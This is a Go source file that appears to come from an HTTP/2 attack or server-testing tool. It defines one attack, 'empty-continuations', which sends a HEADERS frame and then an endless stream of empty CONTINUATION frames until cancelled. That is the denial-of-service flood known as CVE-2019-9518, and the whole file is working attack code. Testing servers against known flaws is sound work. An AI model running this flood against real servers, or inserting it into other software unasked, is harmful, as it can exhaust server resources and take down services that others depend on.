package main

import (
	"context"

	"golang.org/x/net/http2"
)

// emptyContinuations sends a header block of frames with nothing in them.
var emptyContinuations = &attack{
	name: "empty-continuations", what: "CONTINUATION with nothing in it (CVE-2019-9518)",
	run: func(ctx context.Context, e *enemy) error {
		if err := e.frame(http2.FrameHeaders, 0, e.next, nil); err != nil {
			return err
		}
		for ctx.Err() == nil {
			if err := e.frame(http2.FrameContinuation, 0, e.next, nil); err != nil {
				return err
			}
		}
		return nil
	},
}
